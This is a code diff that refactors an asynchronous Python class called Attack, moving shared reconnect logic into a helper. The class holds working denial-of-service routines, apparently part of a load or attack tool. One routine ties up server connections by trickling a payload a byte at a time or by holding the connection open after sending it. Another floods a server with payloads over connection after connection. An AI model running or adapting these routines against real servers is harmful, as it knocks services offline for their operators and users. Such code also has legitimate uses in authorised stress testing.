@@ -76,63 +76,63 @@ class Attack:
         self.open -= 1
         writer.close()
 
-    async def slow_connection(self, payload: bytes, interval: float, then_wait: bool):
-        """Keeps one connection open: `payload` one byte every `interval` s (or all at once and
-        then nothing when `then_wait`), reopening it when the server closes it."""
+    async def reconnecting(self, talk, pause: float):
+        """Until the run stops: opens a connection and has `talk(reader, writer)` use it, then closes
+        it and opens the next; waits `pause` s after a connection that could not be opened."""
         while not self.stop:
             try:
                 reader, writer = await self.connect()
             except (OSError, asyncio.TimeoutError):
-                await asyncio.sleep(0.5)
+                await asyncio.sleep(pause)
                 continue
             try:
-                if then_wait:
-                    writer.write(payload)
-                    await writer.drain()
-                    # Read whatever the server sends (its hello) and wait for it to give up.
-                    while not self.stop:
-                        try:
-                            data = await asyncio.wait_for(reader.read(65536), 1.0)
-                        except asyncio.TimeoutError:
-                            continue
-                        if not data:
-                            break
-                else:
-                    index = 0
-                    while not self.stop:
-                        writer.write(payload[index % len(payload):index % len(payload) + 1])
-                        await writer.drain()
-                        index += 1
-                        try:
-                            data = await asyncio.wait_for(reader.read(65536), interval)
-                            if not data:
-                                break
-                        except asyncio.TimeoutError:
-                            pass
+                await talk(reader, writer)
             except (OSError, asyncio.TimeoutError, ConnectionError):
                 pass
             finally:
                 self.closed(writer)
 
-    async def flood(self, make_payload, close_after: bool):
-        while not self.stop:
-            try:
-                reader, writer = await self.connect()
-            except (OSError, asyncio.TimeoutError):
-                await asyncio.sleep(0.1)
-                continue
-            try:
-                writer.write(make_payload())
-                await asyncio.wait_for(writer.drain(), 5)
-                if not close_after:
+    async def slow_connection(self, payload: bytes, interval: float, then_wait: bool):
+        """Keeps one connection open: `payload` one byte every `interval` s (or all at once and
+        then nothing when `then_wait`), reopening it when the server closes it."""
+        async def talk(reader, writer):
+            if then_wait:
+                writer.write(payload)
+                await writer.drain()
+                # Read whatever the server sends (its hello) and wait for it to give up.
+                while not self.stop:
                     try:
-                        await asyncio.wait_for(reader.read(65536), 2)
+                        data = await asyncio.wait_for(reader.read(65536), 1.0)
+                    except asyncio.TimeoutError:
+                        continue
+                    if not data:
+                        break
+            else:
+                index = 0
+                while not self.stop:
+                    writer.write(payload[index % len(payload):index % len(payload) + 1])
+                    await writer.drain()
+                    index += 1
+                    try:
+                        data = await asyncio.wait_for(reader.read(65536), interval)
+                        if not data:
+                            break
                     except asyncio.TimeoutError:
                         pass
-            except (OSError, asyncio.TimeoutError, ConnectionError):
-                pass
-            finally:
-                self.closed(writer)
+        await self.reconnecting(talk, 0.5)
+
+    async def flood(self, make_payload, close_after: bool):
+        """Sends `make_payload()` on one connection after another; unless `close_after`, waits up to
+        2 s for the server's answer before the next."""
+        async def talk(reader, writer):
+            writer.write(make_payload())
+            await asyncio.wait_for(writer.drain(), 5)
+            if not close_after:
+                try:
+                    await asyncio.wait_for(reader.read(65536), 2)
+                except asyncio.TimeoutError:
+                    pass
+        await self.reconnecting(talk, 0.1)
 
     def tasks(self):
         kind, attack, count = self.args.kind, self.args.attack, self.args.connections
